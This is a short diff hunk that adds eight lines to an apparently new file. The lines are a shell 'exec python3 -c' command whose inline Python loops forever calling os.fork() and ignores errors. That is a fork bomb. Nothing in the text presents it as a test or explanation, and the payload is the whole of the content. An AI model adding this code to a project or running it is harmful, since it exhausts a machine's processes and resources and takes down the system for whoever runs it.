@@ -1,0 +1,8 @@
+exec python3 -c "
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+"
